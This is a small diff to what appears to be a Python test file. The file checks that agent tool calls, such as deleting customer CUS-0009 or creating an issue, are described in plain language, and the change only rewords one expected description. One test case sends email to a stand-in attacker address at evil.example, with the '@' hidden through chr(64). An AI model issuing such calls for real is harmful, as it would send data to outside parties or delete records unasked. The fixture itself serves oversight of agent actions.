@@ -71,7 +71,7 @@ def said(code: str) -> str:
         ("delete_customer({'customer_id': 'CUS-0009'})", "Deletes customer CUS-0009 through demo.delete_customer."),
         (
             "send_email(to='a' + chr(64) + 'evil.example', subject='Weekly', body='x')",
-            "Mails a@evil.example: “Weekly” through demo.send_email.",
+            "Mails “Weekly” to a@evil.example through demo.send_email.",
         ),
         (
             "create_issue(owner='acme', repo='app', title='Crash', body='x')",
